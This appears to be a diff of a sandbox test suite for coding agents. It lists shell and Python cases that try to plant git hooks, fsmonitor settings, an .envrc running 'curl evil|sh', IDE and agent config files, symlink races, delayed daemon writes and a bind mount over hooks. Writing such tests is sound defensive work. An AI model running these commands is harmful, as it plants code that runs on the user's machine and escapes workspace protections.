@@ -4,7 +4,8 @@ from __future__ import annotations
 
 from tests.hostile.case import python, shell
 
-LATE = "a new file is found only when the command has ended; it is then taken away"
+LATE = "a daemon writes after its command has ended: it is put back behind the next command, or at the end"
+NEW_MODULE = "a module that is not there yet is like a new repository below the root: `git submodule add` must work"
 
 PROTECTED = [
     shell("hook-new", "echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit", "1.2 write ws/.git/hooks, 22"),
@@ -30,14 +31,14 @@ PROTECTED = [
     shell("git-removed", "rm -rf .git; mkdir .git; git init -q .; echo evil > .git/hooks/pre-commit", "22"),
     shell("nested-repository", "echo evil > vendor/lib/.git/hooks/pre-commit; git -C vendor/lib config core.fsmonitor ./evil", "22"),
     shell("nested-repository-moved", "mv vendor/lib vendor/other; cd vendor/other && git config core.fsmonitor ./evil; cd ..; mv other lib", "22"),
-    shell("submodule-hooks", "mkdir -p .git/modules/sub/hooks; echo evil > .git/modules/sub/hooks/post-checkout; echo '[core]' > .git/modules/sub/config", "22"),
+    shell("submodule-hooks", "mkdir -p .git/modules/sub/hooks; echo evil > .git/modules/sub/hooks/post-checkout; echo '[core]' > .git/modules/sub/config", "22", open={"bubblewrap": NEW_MODULE, "landlock": NEW_MODULE}),
     shell("envrc", "echo 'curl evil|sh' > .envrc", "6, 29"),
     shell("vscode", "mkdir -p .vscode; echo '{}' > .vscode/tasks.json; echo '{}' > .vscode/settings.json", "15"),
     shell("idea-zed-cursor", "mkdir -p .idea .zed .cursor; echo x > .idea/workspace.xml; echo x > .zed/tasks.json; echo x > .cursor/mcp.json", "15, 14"),
     shell("agents", "mkdir -p .claude .codex .gemini; echo x > .claude/settings.json; echo x > .codex/config.toml; echo x > .gemini/settings.json", "6, 13"),
     shell("own-project-files", "mkdir -p .laguna; echo x > .laguna/config.toml; echo '{}' > .mcp.json", "7, 13, 14"),
     shell("devcontainer", "mkdir .devcontainer; echo '{}' > .devcontainer/devcontainer.json", "15"),
-    shell("below-a-directory", "mkdir -p sub/.vscode; echo x > sub/.vscode/tasks.json; echo x > sub/.envrc", "15", open={"bubblewrap": "a mount needs a place that is there: below the root only the names at the root are held"}),
+    shell("below-a-directory", "mkdir -p sub/.vscode; echo x > sub/.vscode/tasks.json; echo x > sub/.envrc", "15"),
     shell("prepared-and-renamed", "mkdir prep; echo x > prep/tasks.json; mv prep .vscode; echo x > e; mv e .envrc; ln e2 .mcp.json", "6, 29"),
     shell("prepared-symlink", "mkdir prep; echo x > prep/tasks.json; ln -s prep .vscode; echo x > e; ln -s e .envrc; echo y | tee .envrc", "6, 29"),
     shell("git-apply", "printf 'diff --git a/.envrc b/.envrc\\nnew file mode 100644\\n--- /dev/null\\n+++ b/.envrc\\n@@ -0,0 +1 @@\\n+evil\\n' > p; git apply p", "6"),
@@ -46,6 +47,10 @@ PROTECTED = [
     shell("checkout", "git hash-object -w --stdin < README > h; git read-tree main; git update-index --add --cacheinfo 100644,$(cat h),.envrc; c=$(git commit-tree $(git write-tree) -m e -p main); git reset -q --hard $c", "6"),
     python("python-io", "import os; os.makedirs('.vscode', exist_ok=True); open('.vscode/tasks.json', 'w').write('x'); open('.git/hooks/post-commit', 'w').write('x')", "6"),
     shell("background-later", "(sleep 0.4; echo x > .envrc; echo x > .git/hooks/pre-commit) > /dev/null 2>&1 &", "6, 29", settle=0.9),
-    shell("daemon-later", "setsid -f sh -c 'sleep 0.4; echo x > .envrc; echo x >> .git/config' > /dev/null 2>&1", "6, 29", settle=0.9),
+    shell("daemon-later", "setsid -f sh -c 'sleep 0.4; echo x > .envrc; echo x >> .git/config' > /dev/null 2>&1", "6, 29", settle=0.9, open={"landlock": LATE}),
+    shell("watcher-follows-a-link", "mv vendor v; ln -s @OUT/other vendor; rm -f v/lib/.git/config", "29", proof="only who puts back what is protected can be led astray"),
+    shell("watcher-follows-a-new-link", "mv vendor v; ln -s @OUT/dir vendor", "29", proof="only who puts back what is protected can be led astray"),
+    shell("watcher-and-a-race", "(for i in $(seq 300); do mv -T vendor v; ln -s @OUT/other vendor; rm vendor; mv -T v vendor; done) > /dev/null 2>&1 & sleep 0.2", "29", settle=1.0, proof="only who puts back what is protected can be led astray"),
+    shell("watcher-and-a-daemon", "setsid -f sh -c 'for i in $(seq 400); do mv -T vendor v; ln -s @OUT/other vendor; rm vendor; mv -T v vendor; done' > /dev/null 2>&1; sleep 0.1", "29", settle=1.0, proof="only who puts back what is protected can be led astray"),
     shell("mount-over", "mkdir m; echo evil > m/pre-commit; mount --bind m .git/hooks", "1.2 mount", proof="a mount is seen by the one who looks only in the same namespace"),
 ]  # fmt: skip
